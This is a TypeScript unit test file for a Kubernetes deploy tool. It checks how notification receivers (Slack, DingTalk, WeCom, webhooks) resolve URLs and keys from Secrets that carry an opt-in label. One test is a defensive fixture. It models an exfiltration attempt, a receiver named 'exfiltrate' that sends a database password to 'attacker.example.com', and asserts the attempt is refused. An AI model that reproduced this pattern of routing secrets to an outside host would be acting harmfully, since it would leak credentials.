import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { KubeClient, KubeObject } from '../runtime/client.ts';
import type { ResourceKind } from '../runtime/kinds.ts';
import { resolveReceivers } from './resolve.ts';
import { WECOM_WEBHOOK_URL } from './wecom.ts';

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

/** A stand-in for the one client call resolveReceivers makes; the integration test uses the real API server. */
function secretsClient(
  secrets: Record<string, Record<string, string> | 'error'>,
  options: { unlabelled?: string[] } = {},
) {
  const reads: string[] = [];
  const client: Pick<KubeClient, 'get'> = {
    get: async <T extends KubeObject>(
      kind: ResourceKind<T>,
      namespace: string | undefined,
      name: string,
    ): Promise<T | undefined> => {
      assert.equal(kind.kind, 'Secret');
      reads.push(`${namespace}/${name}`);
      const data = secrets[name];
      if (data === 'error') throw new Error('forbidden');
      if (!data) return undefined;
      const labels = options.unlabelled?.includes(name) ? {} : { 'deploy.codedance.io/notification': 'true' };
      return {
        metadata: { name, namespace, labels },
        data: Object.fromEntries(Object.entries(data).map(([k, v]) => [k, b64(v)])),
      } as unknown as T;
    },
  };
  return { client, reads };
}

test('URLs and secrets come from Secrets, each Secret read once', async () => {
  const { client, reads } = secretsClient({
    hooks: {
      url: 'https://hooks.slack.com/services/T/B/X',
      ding: 'https://oapi.dingtalk.com/robot/send?access_token=t',
      dingSecret: 'SEC1\n',
    },
  });
  const { receivers, problems } = await resolveReceivers(client, 'prod', [
    { type: 'Slack', secretRef: { name: 'hooks' } },
    {
      name: 'oncall',
      type: 'DingTalk',
      secretRef: { name: 'hooks', urlKey: 'ding', secretKey: 'dingSecret' },
      events: ['RolledBack'],
    },
    { type: 'Webhook', url: 'https://example.com/hook' },
  ]);
  assert.deepEqual(problems, []);
  assert.deepEqual(
    receivers.map((r) => [r.notifier.name, r.notifier.type, r.events]),
    [
      ['Slack', 'Slack', undefined],
      ['oncall', 'DingTalk', ['RolledBack']],
      ['Webhook', 'Webhook', undefined],
    ],
  );
  assert.deepEqual(reads, ['prod/hooks']);
});

test('a WeCom robot may be given by its key alone', async () => {
  const { client } = secretsClient({ wecom: { key: 'robot-key' } });
  const { receivers, problems } = await resolveReceivers(client, 'prod', [
    { type: 'WeCom', secretRef: { name: 'wecom', secretKey: 'key' } },
  ]);
  assert.deepEqual(problems, []);
  assert.equal(receivers.length, 1);
  assert.equal(WECOM_WEBHOOK_URL, 'https://qyapi.weixin.qq.com/cgi-bin/webhook/send');
});

test('problems are values and leave the other receivers working', async () => {
  const { client } = secretsClient({ partial: { other: 'x' }, broken: 'error', notUrl: { url: 'ftp://x' } });
  const { receivers, problems } = await resolveReceivers(client, 'prod', [
    { type: 'Slack', secretRef: { name: 'missing' } },
    { type: 'Slack', secretRef: { name: 'partial' } },
    { type: 'DingTalk', url: 'https://d', secretRef: { name: 'partial', secretKey: 'sign' } },
    { type: 'Webhook', secretRef: { name: 'broken' } },
    { type: 'Webhook', secretRef: { name: 'notUrl' } },
    { type: 'Webhook' },
    { type: 'Webhook', url: 'https://ok.example.com' },
  ]);
  assert.deepEqual(
    problems.map((p) => [p.index, p.reason, p.message]),
    [
      [0, 'SecretNotFound', 'Secret prod/missing not found'],
      [1, 'SecretKeyMissing', 'Secret prod/partial has no key "url" and the receiver has no url'],
      [2, 'SecretKeyMissing', 'Secret prod/partial has no key "sign"'],
      [3, 'SecretUnreadable', 'reading Secret prod/broken: forbidden'],
      [4, 'InvalidUrl', 'the url is not http(s)'],
      [5, 'InvalidUrl', 'no url: set url or secretRef'],
    ],
  );
  assert.equal(receivers.length, 1);
});

test('no notifications, nothing to do', async () => {
  const { client, reads } = secretsClient({});
  assert.deepEqual(await resolveReceivers(client, 'prod', undefined), { receivers: [], problems: [] });
  assert.deepEqual(reads, []);
});

test('a Secret without the opt-in label is refused, with the label to add; the others still work', async () => {
  const { client, reads } = secretsClient(
    {
      db: { password: 'hunter2', url: 'https://attacker.example.com' },
      hooks: { url: 'https://hooks.example.com/x' },
    },
    { unlabelled: ['db'] },
  );
  const { receivers, problems } = await resolveReceivers(client, 'prod', [
    {
      name: 'exfiltrate',
      type: 'WeCom',
      url: 'https://attacker.example.com',
      secretRef: { name: 'db', secretKey: 'password' },
    },
    { type: 'Webhook', secretRef: { name: 'hooks' } },
  ]);
  assert.deepEqual(
    problems.map((p) => [p.receiver, p.reason, p.secret]),
    [['exfiltrate', 'SecretNotOptedIn', 'db']],
  );
  assert.match(problems[0]!.message, /Secret prod\/db is not opted in/);
  assert.match(
    problems[0]!.message,
    /kubectl label secret db -n prod deploy\.codedance\.io\/notification=true/,
  );
  assert.deepEqual(
    receivers.map((r) => r.notifier.type),
    ['Webhook'],
  );
  assert.deepEqual(reads, ['prod/db', 'prod/hooks']);
});

test('the label must say "true"', async () => {
  const client: Pick<KubeClient, 'get'> = {
    get: async <T extends KubeObject>(): Promise<T | undefined> =>
      ({
        metadata: { name: 'hooks', labels: { 'deploy.codedance.io/notification': 'false' } },
        data: { url: b64('https://x.example.com') },
      }) as unknown as T,
  };
  const { problems } = await resolveReceivers(client, 'prod', [
    { type: 'Webhook', secretRef: { name: 'hooks' } },
  ]);
  assert.deepEqual(
    problems.map((p) => p.reason),
    ['SecretNotOptedIn'],
  );
});
